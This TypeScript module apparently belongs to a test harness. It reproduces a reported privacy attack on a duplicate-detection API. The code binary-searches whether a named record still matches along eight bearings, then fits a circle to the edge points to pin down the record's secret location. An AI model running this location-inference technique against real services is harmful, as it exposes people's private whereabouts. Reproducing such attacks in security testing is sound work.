import type { Client } from '../harness';
import { destination } from '../geo-reference';

/**
 * The attack from issue 5, item 1, as a tester ran it: binary-search the edge of "is a
 * record with this name near this point?" along several bearings, then fit a circle to
 * the edge points. Against exact-point matching it finds the place to the metre.
 */
export type LatLng = { lat: number; lng: number };

export async function duplicateMatches(client: Client, name: string, point: LatLng): Promise<boolean> {
  const res = await client.post('/api/assets/duplicates', { name, points: [point] });
  if (res.status !== 200) throw new Error(`duplicates: ${res.status} ${JSON.stringify(res.body)}`);
  return (res.body.items as { name: string }[]).some((d) => d.name === name);
}

/** Farthest distance (to `precision` m) along `bearing` from `start` that still matches, searching up to `maxMetres`. */
export async function edgeAlong(client: Client, name: string, start: LatLng, bearing: number, maxMetres: number, precision = 1): Promise<number> {
  let inside = 0;
  let outside = maxMetres;
  if (await duplicateMatches(client, name, destination(start.lat, start.lng, bearing, outside))) return outside;
  while (outside - inside > precision) {
    const mid = (inside + outside) / 2;
    if (await duplicateMatches(client, name, destination(start.lat, start.lng, bearing, mid))) inside = mid;
    else outside = mid;
  }
  return (inside + outside) / 2;
}

/** Least-squares (Kåsa) circle through points given in local east/north metres. */
export function fitCircle(points: [number, number][]): { x: number; y: number; r: number } {
  // Solve x² + y² + D x + E y + F = 0 in the least-squares sense (normal equations, 3×3).
  const rows = points.map(([x, y]) => [x, y, 1, -(x * x + y * y)]);
  const ata = [0, 1, 2].map((i) => [0, 1, 2].map((j) => rows.reduce((s, r) => s + r[i] * r[j], 0)));
  const atb = [0, 1, 2].map((i) => rows.reduce((s, r) => s + r[i] * r[3], 0));
  const [D, E, F] = solve3(ata, atb);
  const x = -D / 2;
  const y = -E / 2;
  return { x, y, r: Math.sqrt(x * x + y * y - F) };
}

function solve3(a: number[][], b: number[]): number[] {
  const m = a.map((row, i) => [...row, b[i]]);
  for (let c = 0; c < 3; c++) {
    const p = m.slice(c).reduce((best, row, i) => (Math.abs(row[c]) > Math.abs(m[best][c]) ? c + i : best), c);
    [m[c], m[p]] = [m[p], m[c]];
    for (let r = 0; r < 3; r++) {
      if (r === c) continue;
      const f = m[r][c] / m[c][c];
      for (let k = c; k < 4; k++) m[r][k] -= f * m[c][k];
    }
  }
  return [0, 1, 2].map((i) => m[i][3] / m[i][i]);
}

/** Binary-search 8 bearings from `start` and fit a circle: the attacker's estimate of the place, and every answer seen. */
export async function circleFitAttack(client: Client, name: string, start: LatLng, maxMetres = 2000): Promise<{ estimate: LatLng; edges: number[] }> {
  const bearings = [0, 45, 90, 135, 180, 225, 270, 315];
  const edges: number[] = [];
  for (const b of bearings) edges.push(await edgeAlong(client, name, start, b, maxMetres));
  // Local flat frame around `start`: fine over a few kilometres for a fit.
  const points = bearings.map((b, i): [number, number] => [edges[i] * Math.sin((b * Math.PI) / 180), edges[i] * Math.cos((b * Math.PI) / 180)]);
  const c = fitCircle(points);
  const bearing = (Math.atan2(c.x, c.y) * 180) / Math.PI;
  return { estimate: destination(start.lat, start.lng, bearing, Math.hypot(c.x, c.y)), edges };
}
